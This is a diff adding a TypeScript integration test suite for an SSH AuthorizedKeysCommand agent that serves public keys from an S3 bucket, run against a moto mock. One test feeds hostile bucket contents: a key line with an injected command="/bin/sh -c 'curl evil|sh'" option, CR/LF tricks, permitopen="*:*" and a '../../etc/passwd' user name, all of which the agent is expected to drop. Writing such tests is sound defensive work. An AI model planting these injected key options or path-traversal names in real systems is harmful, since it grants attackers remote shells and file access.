@@ -1,0 +1,511 @@
+// The BUILT agent (dist/iam-authorized-keys, built by test/global-setup.ts) as
+// a child process against a real moto_server: S3 over HTTP, STS AssumeRole,
+// the cache on disk, a real logger(1) writing to a unix datagram socket.
+import { type ChildProcess, execFile, spawn } from 'node:child_process';
+import { copyFileSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { CreateBucketCommand, DeleteObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { type IndexUser, type PublishedIndex, serializeIndex } from '../../../contract/index-schema.js';
+import { groupKey, indexKey, userKey } from '../../../contract/layout.js';
+import { renderLine } from '../../../contract/line.js';
+import { decodeEntry, encodeEntry } from '../../../host-agent/cache.js';
+import { makeKey } from '../../helpers/keys.js';
+import { freePort, type Moto, startMoto, TEST_CREDENTIALS, TEST_REGION } from '../../helpers/moto.js';
+
+const ROOT = new URL('../../..', import.meta.url).pathname;
+const BUCKET = 'ssh-keys';
+const PREFIX = 'keys/';
+
+let moto: Moto;
+let s3: S3Client;
+let agent: string;
+let work: string;
+
+const alice = makeKey();
+const alice2 = makeKey('ecdsa');
+const bob = makeKey('rsa');
+const carol = makeKey();
+const aliceLines = renderLine('alice', alice) + renderLine('alice', alice2);
+const bobLine = renderLine('bob+ops@example.com', bob);
+const carolLine = renderLine('carol', carol);
+
+interface Result {
+  code: number;
+  stdout: string;
+  stderr: string;
+}
+
+function runAgent(args: string[], env: Record<string, string> = {}): Promise<Result> {
+  return new Promise((resolve) => {
+    execFile(
+      agent,
+      args,
+      {
+        // What sshd gives an AuthorizedKeysCommand, plus the explicit AWS_* wrapper of DESIGN.md.
+        env: {
+          PATH: `${dirname(process.execPath)}:/usr/bin:/bin`,
+          HOME: work,
+          USER: 'root',
+          LOGNAME: 'root',
+          AWS_ACCESS_KEY_ID: TEST_CREDENTIALS.accessKeyId,
+          AWS_SECRET_ACCESS_KEY: TEST_CREDENTIALS.secretAccessKey,
+          AWS_ENDPOINT_URL_S3: moto.endpoint,
+          AWS_EC2_METADATA_DISABLED: 'true',
+          ...env,
+        },
+        encoding: 'utf8',
+      },
+      (err, stdout, stderr) => {
+        const code = err ? (typeof err.code === 'number' ? err.code : 99) : 0;
+        resolve({ code, stdout, stderr });
+      },
+    );
+  });
+}
+
+let configN = 0;
+function writeConfig(extra: Record<string, unknown>, cacheDir?: string): { path: string; cacheDir: string } {
+  const dir = cacheDir ?? join(work, `cache-${++configN}`);
+  const path = join(work, `config-${++configN}.json`);
+  writeFileSync(
+    path,
+    JSON.stringify({
+      bucket: BUCKET,
+      prefix: PREFIX,
+      region: TEST_REGION,
+      cache: { dir, ttlSeconds: 300, maxStaleSeconds: 3600 },
+      ...extra,
+    }),
+    { mode: 0o644 },
+  );
+  return { path, cacheDir: dir };
+}
+
+async function put(key: string, body: string | Buffer): Promise<void> {
+  await s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: key, Body: body }));
+}
+
+function indexJson(
+  users: Record<string, Partial<IndexUser>>,
+  generatedAt = new Date().toISOString(),
+): string {
+  const full: Record<string, IndexUser> = {};
+  let uid = 2000;
+  for (const [n, u] of Object.entries(users))
+    full[n] = { localName: null, uid: uid++, groups: [], keys: [], ...u };
+  const idx: PublishedIndex = {
+    version: 1,
+    generatedAt,
+    users: full,
+    groups: {},
+    keyBodies: {},
+    uids: {},
+    nextUid: uid,
+  };
+  return serializeIndex(idx);
+}
+
+/** Makes every cache entry `seconds` older, as if that much time had passed. */
+function ageCache(dir: string, seconds: number): void {
+  for (const name of readdirSync(dir).filter((n) => n.startsWith('o-') || n.startsWith('h-'))) {
+    const buf = readFileSync(join(dir, name));
+    const key = JSON.parse(buf.subarray(0, buf.indexOf(10)).toString()).key;
+    const e = decodeEntry(buf, key);
+    if (typeof e === 'string') throw new Error(e);
+    writeFileSync(join(dir, name), encodeEntry({ ...e, fetchedAt: e.fetchedAt - seconds * 1000 }), {
+      mode: 0o600,
+    });
+  }
+}
+
+/** A TCP port that accepts connections and never answers. */
+async function blackhole(): Promise<{ url: string; server: Server }> {
+  const server = createServer(() => {});
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+  const addr = server.address();
+  return { url: `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`, server };
+}
+
+beforeAll(async () => {
+  moto = await startMoto();
+  s3 = new S3Client({
+    region: TEST_REGION,
+    endpoint: moto.endpoint,
+    forcePathStyle: true,
+    credentials: TEST_CREDENTIALS,
+  });
+  work = mkdtempSync(join(tmpdir(), 'iak-int-'));
+  // Run the bundle from outside the repo, as installed on a host.
+  agent = join(work, 'iam-authorized-keys');
+  copyFileSync(join(ROOT, 'dist/iam-authorized-keys'), agent);
+  statSync(agent);
+});
+
+afterAll(async () => {
+  await moto?.stop();
+});
+
+beforeEach(async () => {
+  await moto.reset();
+  await s3.send(new CreateBucketCommand({ Bucket: BUCKET }));
+  await put(userKey(PREFIX, 'alice'), aliceLines);
+  await put(userKey(PREFIX, 'bob+ops@example.com'), bobLine);
+  await put(userKey(PREFIX, 'carol'), carolLine);
+  await put(groupKey(PREFIX, 'Admins'), renderLine('alice', alice) + bobLine);
+  await put(
+    indexKey(PREFIX),
+    indexJson({
+      alice: { localName: 'alice', groups: ['Admins', 'Developers'] },
+      'bob+ops@example.com': { localName: 'bob.plus.ops.at.example.com', groups: ['Admins'] },
+      carol: { localName: 'carol', groups: [] },
+    }),
+  );
+});
+
+describe('users map', () => {
+  it('prints the principals’ lines, deduplicated, and exits 0', async () => {
+    const { path } = writeConfig({ users: { 'ec2-user': ['groups/Admins', 'users/alice', 'users/nobody'] } });
+    const r = await runAgent(['--config', path, 'ec2-user']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(renderLine('alice', alice) + bobLine + renderLine('alice', alice2));
+    expect(r.stderr).toMatch(/unknown principal users\/nobody/);
+  });
+
+  it('answers an unmapped user with nothing, without the network', async () => {
+    const { path } = writeConfig({ users: { 'ec2-user': ['users/alice'] } });
+    const r = await runAgent(['--config', path, 'root', alice.fingerprint], {
+      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
+    });
+    expect(r).toEqual({ code: 0, stdout: '', stderr: '' });
+  });
+
+  it('works with endpoint in the config and no AWS_ENDPOINT_URL_S3', async () => {
+    const { path } = writeConfig({ users: { u: ['users/carol'] }, endpoint: moto.endpoint });
+    const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_S3: '' });
+    expect(r.stdout).toBe(carolLine);
+  });
+
+  it('reads credentials from a shared credentials file profile', async () => {
+    const creds = join(work, 'credentials');
+    writeFileSync(creds, `[reader]\naws_access_key_id = AKIAPROFILE\naws_secret_access_key = s3cr3t\n`, {
+      mode: 0o600,
+    });
+    const { path } = writeConfig({ users: { u: ['users/carol'] } });
+    const r = await runAgent(['--config', path, 'u'], {
+      AWS_ACCESS_KEY_ID: '',
+      AWS_SECRET_ACCESS_KEY: '',
+      AWS_SHARED_CREDENTIALS_FILE: creds,
+      AWS_PROFILE: 'reader',
+    });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(carolLine);
+  });
+
+  it('fails closed without any credentials', async () => {
+    const { path } = writeConfig({ users: { u: ['users/carol'] } });
+    const r = await runAgent(['--config', path, 'u'], { AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '' });
+    expect(r.code).toBe(1);
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(/no AWS credentials/);
+  });
+
+  it('fails closed on a missing bucket (not "unknown principal")', async () => {
+    const { path } = writeConfig({ users: { u: ['users/carol'] }, bucket: 'no-such-bucket' });
+    const r = await runAgent(['--config', path, 'u']);
+    expect(r).toMatchObject({ code: 1, stdout: '' });
+    expect(r.stderr).toMatch(/404 NoSuchBucket/);
+  });
+});
+
+describe('fingerprint and audit', () => {
+  let logger: ChildProcess;
+  let messages: string[] = [];
+  let socket: string;
+  beforeAll(async () => {
+    socket = join(work, 'log.sock');
+    // A syslog stand-in: a unix datagram socket (node has none), printing what logger sends.
+    logger = spawn(
+      'python3',
+      [
+        '-c',
+        'import socket,sys\ns=socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM)\ns.bind(sys.argv[1])\nprint("ready",flush=True)\nwhile True:\n  print(s.recv(65536).decode(),flush=True)',
+        socket,
+      ],
+      { stdio: ['ignore', 'pipe', 'inherit'] },
+    );
+    await new Promise<void>((resolve) => {
+      logger.stdout?.on('data', (d: Buffer) => {
+        const text = d.toString();
+        if (text.includes('ready')) resolve();
+        messages.push(...text.split('\n').filter((l) => l && l !== 'ready'));
+      });
+    });
+  });
+  afterAll(() => {
+    logger?.kill();
+  });
+
+  it('prints only the key with that fingerprint and writes one audit line to syslog', async () => {
+    messages = [];
+    const { path } = writeConfig({
+      users: { 'ec2-user': ['groups/Admins', 'users/alice'] },
+      syslogSocket: socket,
+    });
+    const r = await runAgent(['--config', path, 'ec2-user', alice.fingerprint]);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(renderLine('alice', alice));
+    expect(messages).toHaveLength(1);
+    expect(messages[0]).toMatch(/^<86>.*iam-authorized-keys(\[\d+\])?: /); // authpriv.info = 10*8+6
+    expect(messages[0]).toContain(
+      `key-authorized user=ec2-user fingerprint=${alice.fingerprint} owner=alice principal=groups/Admins,users/alice source=s3,s3`,
+    );
+    // The second login attempt is served from the cache, and says so.
+    const again = await runAgent(['--config', path, 'ec2-user', alice.fingerprint]);
+    expect(again.stdout).toBe(renderLine('alice', alice));
+    expect(messages[1]).toContain('source=cache,cache');
+  });
+
+  it('still serves the key when syslog is unreachable, with the audit line on stderr', async () => {
+    const { path } = writeConfig({ users: { u: ['users/alice'] }, syslogSocket: join(work, 'nope.sock') });
+    const r = await runAgent(['--config', path, 'u', alice2.fingerprint]);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(renderLine('alice', alice2));
+    expect(r.stderr).toMatch(/audit log not written/);
+    expect(r.stderr).toMatch(/audit: key-authorized user=u .*owner=alice/);
+  });
+});
+
+describe('iamUsers mode', () => {
+  it('maps a local name to its IAM user through index.json', async () => {
+    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
+    const r = await runAgent(['--config', path, 'bob.plus.ops.at.example.com']);
+    expect(r.stdout).toBe(bobLine);
+  });
+
+  it('gates by allowGroups', async () => {
+    const { path } = writeConfig({ iamUsers: { allowGroups: ['Developers'] } });
+    expect((await runAgent(['--config', path, 'alice'])).stdout).toBe(aliceLines);
+    const carolR = await runAgent(['--config', path, 'carol']);
+    expect(carolR).toMatchObject({ code: 0, stdout: '' });
+    expect(carolR.stderr).toMatch(/carol is in none of iamUsers.allowGroups/);
+  });
+
+  it('ignores an index entry whose localName does not match the IAM name', async () => {
+    await put(indexKey(PREFIX), indexJson({ carol: { localName: 'root', groups: [] } }));
+    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
+    const r = await runAgent(['--config', path, 'root']);
+    expect(r).toMatchObject({ code: 0, stdout: '' });
+  });
+
+  it('warns on stderr when the publisher heartbeat is old', async () => {
+    await put(indexKey(PREFIX), indexJson({ carol: { localName: 'carol' } }, '2020-01-01T00:00:00Z'));
+    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
+    const r = await runAgent(['--config', path, 'carol']);
+    expect(r.stdout).toBe(carolLine);
+    expect(r.stderr).toMatch(/index.json was generated \d+s ago \(publisher stopped\?\)/);
+  });
+});
+
+describe('cache', () => {
+  it('fresh: answers from the cache with S3 unreachable, and writes 0600 files in a 0700 dir', async () => {
+    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
+    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines);
+    expect(statSync(cacheDir).mode & 0o777).toBe(0o700);
+    for (const f of readdirSync(cacheDir)) expect(statSync(join(cacheDir, f)).mode & 0o777).toBe(0o600);
+    const r = await runAgent(['--config', path, 'u'], {
+      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
+    });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(aliceLines);
+    expect(r.stderr).toMatch(/source cache/);
+  });
+
+  it('stale: serves the old copy when S3 is down, within maxStaleSeconds, and says so', async () => {
+    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
+    await runAgent(['--config', path, 'u']);
+    ageCache(cacheDir, 600);
+    const r = await runAgent(['--config', path, 'u'], {
+      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
+    });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(aliceLines);
+    expect(r.stderr).toMatch(/S3 unavailable .*ECONNREFUSED.*serving the cached copy from 60\ds ago/);
+  });
+
+  it('stale with a hanging S3: the deadline cuts it short and the cache answers', async () => {
+    const hole = await blackhole();
+    try {
+      const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] }, deadlineMs: 300 });
+      await runAgent(['--config', path, 'u']);
+      ageCache(cacheDir, 600);
+      const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_S3: hole.url });
+      expect(r.code).toBe(0);
+      expect(r.stdout).toBe(aliceLines);
+      expect(r.stderr).toMatch(/deadline reached/);
+    } finally {
+      hole.server.close();
+    }
+  });
+
+  it('beyond maxStaleSeconds: fails closed, nothing printed', async () => {
+    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
+    await runAgent(['--config', path, 'u']);
+    ageCache(cacheDir, 3601);
+    const r = await runAgent(['--config', path, 'u'], {
+      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
+    });
+    expect(r.code).toBe(1);
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(/cannot decide: .*past maxStaleSeconds/);
+  });
+
+  it('no cache and S3 hanging: exits non-zero at the deadline with nothing printed', async () => {
+    const hole = await blackhole();
+    try {
+      const { path } = writeConfig({ users: { u: ['users/alice'] }, deadlineMs: 300 });
+      const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_S3: hole.url });
+      expect(r).toMatchObject({ code: 1, stdout: '' });
+    } finally {
+      hole.server.close();
+    }
+  });
+
+  it('a stale copy revalidated against S3 picks up changes and deletions', async () => {
+    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice', 'users/carol'] } });
+    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines + carolLine);
+    await put(userKey(PREFIX, 'alice'), renderLine('alice', alice));
+    await s3.send(new DeleteObjectCommand({ Bucket: BUCKET, Key: userKey(PREFIX, 'carol') }));
+    // Still fresh: the old answer stands until ttl.
+    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines + carolLine);
+    ageCache(cacheDir, 301);
+    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(renderLine('alice', alice));
+  });
+
+  it('ttlSeconds 0: no cache files, always S3', async () => {
+    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
+    writeFileSync(
+      path,
+      JSON.stringify({
+        bucket: BUCKET,
+        prefix: PREFIX,
+        region: TEST_REGION,
+        users: { u: ['users/alice'] },
+        cache: { dir: cacheDir, ttlSeconds: 0 },
+      }),
+    );
+    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines);
+    expect(() => readdirSync(cacheDir)).toThrow(/ENOENT/);
+  });
+});
+
+describe('hostile bucket contents', () => {
+  it('drops injected options, CR/LF tricks and wrong owners, prints only valid lines', async () => {
+    const [t, b] = [carol.type, carol.blob];
+    await put(
+      groupKey(PREFIX, 'Evil'),
+      [
+        `command="/bin/sh -c 'curl evil|sh'",environment="SSH_KEY_OWNER=carol" ${t} ${b} carol`,
+        `from="*" ${t} ${b} carol`,
+        `environment="SSH_KEY_OWNER=carol" ${t} ${b} carol\r`,
+        `environment="SSH_KEY_OWNER=carol" ${t} ${b} carol\rcommand="x" ${t} ${b} carol`,
+        `environment="SSH_KEY_OWNER=carol",permitopen="*:*" ${t} ${b} carol`,
+        carolLine.trimEnd(),
+      ].join('\n'),
+    );
+    await put(userKey(PREFIX, 'dave'), carolLine); // carol's key in dave's object
+    const { path } = writeConfig({ users: { u: ['groups/Evil', 'users/dave'] } });
+    const r = await runAgent(['--config', path, 'u']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(carolLine);
+    expect(r.stderr.match(/groups\/Evil: dropped line/g)).toHaveLength(5);
+    expect(r.stderr).toMatch(/users\/dave: dropped a key of carol/);
+  });
+
+  it('drops an object over 8 MiB and serves the others', async () => {
+    await put(groupKey(PREFIX, 'Huge'), Buffer.alloc(8 * 1024 * 1024 + 1, 0x41));
+    const { path } = writeConfig({ users: { u: ['groups/Huge', 'users/carol'] } });
+    const r = await runAgent(['--config', path, 'u']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(carolLine);
+    expect(r.stderr).toMatch(/object dropped: object of 8388609 bytes is over the 8388608-byte limit/);
+  });
+
+  it('refuses a hostile USER before it reaches S3, the cache or a log line', async () => {
+    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] }, iamUsers: {} });
+    const r = await runAgent(['--config', path, '../../etc/passwd']);
+    expect(r).toMatchObject({ code: 2, stdout: '' });
+    expect(r.stderr).toMatch(/invalid user name "..\/..\/etc\/passwd"/);
+    expect(() => readdirSync(cacheDir)).toThrow(/ENOENT/);
+  });
+});
+
+describe('roleArn (cross-account) through moto STS', () => {
+  it('assumes the role, caches the credentials 0600 and reuses them', async () => {
+    const { path, cacheDir } = writeConfig({
+      users: { u: ['users/alice'] },
+      roleArn: 'arn:aws:iam::123456789012:role/ssh-key-reader',
+    });
+    const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_STS: moto.endpoint });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe(aliceLines);
+    const sts = readdirSync(cacheDir).filter((f) => f.startsWith('sts-'));
+    expect(sts).toHaveLength(1);
+    expect(statSync(join(cacheDir, sts[0] as string)).mode & 0o777).toBe(0o600);
+    const cached = JSON.parse(readFileSync(join(cacheDir, sts[0] as string), 'utf8'));
+    expect(cached.accessKeyId).toMatch(/^ASIA/);
+    // Object cache aged, STS unreachable: the cached role credentials sign the S3 request.
+    ageCache(cacheDir, 301);
+    const again = await runAgent(['--config', path, 'u'], {
+      AWS_ENDPOINT_URL_STS: `http://127.0.0.1:${await freePort()}`,
+    });
+    expect(again.code).toBe(0);
+    expect(again.stderr).toMatch(/source s3/);
+  });
+
+  it('fails closed when AssumeRole fails and nothing is cached', async () => {
+    const { path } = writeConfig({
+      users: { u: ['users/alice'] },
+      roleArn: 'arn:aws:iam::123456789012:role/ssh-key-reader',
+    });
+    const r = await runAgent(['--config', path, 'u'], {
+      AWS_ENDPOINT_URL_STS: `http://127.0.0.1:${await freePort()}`,
+    });
+    expect(r).toMatchObject({ code: 1, stdout: '' });
+    expect(r.stderr).toMatch(/ECONNREFUSED/);
+  });
+});
+
+describe('chain', () => {
+  it('merges the chained command output after ours, with %u %f substituted', async () => {
+    const script = join(work, 'eic.sh');
+    writeFileSync(script, '#!/bin/sh\necho "chained-line user=$1 fp=$2"\n', { mode: 0o755 });
+    const { path } = writeConfig({ users: { u: ['users/carol'] }, chain: [script, '%u', '%f'] });
+    const r = await runAgent(['--config', path, 'u', carol.fingerprint], {});
+    expect(r.stdout).toBe(`${carolLine}chained-line user=u fp=${carol.fingerprint}\n`);
+  });
+
+  it('ignores a failing chained command and keeps our keys', async () => {
+    const script = join(work, 'fail.sh');
+    writeFileSync(script, '#!/bin/sh\necho should-not-appear; exit 1\n', { mode: 0o755 });
+    const { path } = writeConfig({ users: { u: ['users/carol'] }, chain: script });
+    const r = await runAgent(['--config', path, 'u']);
+    expect(r).toMatchObject({ code: 0, stdout: carolLine });
+    expect(r.stderr).toMatch(/chain command ignored: .*exited with 1/);
+  });
+});
+
+describe('command line and config errors', () => {
+  it.each([
+    [[], /expected USER/],
+    [['--bogus', 'u'], /unknown option/],
+    [['--config', '/nonexistent.json', 'u'], /\/nonexistent.json: cannot read config \(ENOENT\)/],
+  ])('%j exits 2 with one clear line', async (args, message) => {
+    const r = await runAgent(args);
+    expect(r.code).toBe(2);
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(message);
+  });
+});
